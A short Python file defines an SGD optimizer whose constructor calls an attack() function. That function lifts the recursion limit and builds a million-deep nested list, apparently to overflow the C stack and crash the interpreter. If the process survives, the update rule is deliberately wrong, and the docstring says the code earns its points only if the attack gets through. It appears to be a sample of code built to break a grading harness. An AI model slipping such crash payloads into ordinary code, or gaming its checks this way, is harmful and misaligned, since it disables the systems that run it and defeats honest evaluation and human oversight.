# Attack surface: the C stack, by way of nested data that Python prints, compares and frees
import sys

from base import Optimizer


def attack():
    sys.setrecursionlimit(1 << 30)
    nested = []
    for _ in range(1_000_000):
        nested = [nested]
    print(len(repr(nested)))
    return False


class SGD(Optimizer):
    """Right, and so worth its points, only if the attack got through."""

    def __init__(self, params, lr, weight_decay=0.0):
        super().__init__(params, lr)
        self.weight_decay = weight_decay
        self.factor = 1 if attack() else 2

    def update(self, param, grad, state):
        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
